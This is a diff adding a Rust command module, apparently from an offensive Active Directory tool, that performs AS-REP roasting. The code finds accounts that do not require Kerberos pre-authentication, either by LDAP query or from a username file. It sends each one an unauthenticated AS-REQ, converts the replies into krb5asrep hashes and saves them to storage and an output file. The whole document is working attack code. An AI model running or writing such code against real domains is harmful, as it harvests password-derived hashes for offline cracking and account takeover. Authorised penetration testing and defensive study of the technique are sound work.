@@ -0,0 +1,117 @@
+use std::path::PathBuf;
+
+use clap::Args;
+
+use crate::{
+    app::App,
+    cli::commands::Command,
+    data::{credential::AuthMethod, CredentialType},
+    kerberos::{
+        asreq::{build_as_req, send_as_req, AsReply},
+        error::{error_code_name, KDC_ERR_PREAUTH_REQUIRED},
+        roast::krb5asrep_hash,
+        tgs::DEFAULT_ETYPES,
+        Etype,
+    },
+};
+
+/// Enabled user accounts with DONT_REQ_PREAUTH set
+const ASREPROASTABLE_FILTER: &str = "(&(samAccountType=805306368)(userAccountControl:1.2.840.113556.1.4.803:=4194304)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))";
+
+#[derive(Debug, Args, Clone)]
+pub struct AsrepRoastArgs {
+    /// File with one username per line, required when no credential is in use
+    #[arg(short, long)]
+    pub users_file: Option<PathBuf>,
+
+    /// Encryption type to request (defaults to RC4 with AES fallback)
+    #[arg(short, long, value_enum)]
+    pub etype: Option<Etype>,
+
+    /// File to write the roasted hashes to
+    #[arg(short, long, default_value = "asreproast.txt")]
+    pub output: PathBuf,
+
+    /// Authentication protocol for LDAP
+    #[arg(long, value_enum, default_value_t = AuthMethod::Auto)]
+    pub auth: AuthMethod,
+}
+
+impl AsrepRoastArgs {
+    async fn targets(&self, app: &mut App) -> Result<Vec<String>, String> {
+        if let Some(users_file) = &self.users_file {
+            let content = std::fs::read_to_string(users_file).map_err(|e| e.to_string())?;
+            return Ok(content
+                .lines()
+                .map(|l| l.trim().to_string())
+                .filter(|l| !l.is_empty() && !l.starts_with('#'))
+                .collect());
+        }
+
+        if app.get_current_context().is_err() {
+            return Err("Please use a credential or pass a --users-file".to_string());
+        }
+        let mut ldap = app.ldap_session(self.auth).await?;
+        let entries = ldap.search(ASREPROASTABLE_FILTER, vec!["sAMAccountName"]).await?;
+
+        Ok(entries
+            .iter()
+            .filter_map(|e| e.attrs.get("sAMAccountName").and_then(|v| v.first().cloned()))
+            .collect())
+    }
+}
+
+impl Command for AsrepRoastArgs {
+    async fn execute(&self, app: &mut App) -> Result<bool, String> {
+        let dc = app.get_current_dc()?;
+        let targets = self.targets(app).await?;
+        if targets.is_empty() {
+            println!("No AS-REP roastable accounts found");
+            return Ok(false);
+        }
+
+        let etypes = match self.etype {
+            Some(etype) => vec![etype.into()],
+            None => DEFAULT_ETYPES.to_vec(),
+        };
+        let realm = dc.domain_name.to_uppercase();
+
+        let mut hashes = Vec::new();
+        for username in targets {
+            // No pre-authentication data, the KDC only answers for DONT_REQ_PREAUTH accounts
+            let as_req = build_as_req(&realm, &username, &etypes, Vec::new(), dc.now());
+            let as_rep = match send_as_req(&dc, &as_req).await {
+                Ok(AsReply::AsRep(as_rep)) => as_rep,
+                Ok(AsReply::Error(krb_error)) if krb_error.error_code == KDC_ERR_PREAUTH_REQUIRED => {
+                    println!("{} requires pre-authentication", username);
+                    continue;
+                }
+                Ok(AsReply::Error(krb_error)) => {
+                    println!("{}: {}", username, error_code_name(krb_error.error_code));
+                    continue;
+                }
+                Err(e) => {
+                    println!("{}: {}", username, e);
+                    continue;
+                }
+            };
+
+            let hash = krb5asrep_hash(as_rep.enc_part.etype, &username, &realm, &as_rep.enc_part.cipher);
+            println!("{}", hash);
+            app.credential_storage().set_user_metadata(
+                &username,
+                "krb5asrep",
+                &hash,
+                "asreproast",
+                CredentialType::DomainUser,
+            )?;
+            hashes.push(hash);
+        }
+
+        if !hashes.is_empty() {
+            std::fs::write(&self.output, hashes.join("\n") + "\n").map_err(|e| e.to_string())?;
+        }
+        println!("{} hashes written to {}", hashes.len(), self.output.display());
+        Ok(false)
+    }
+}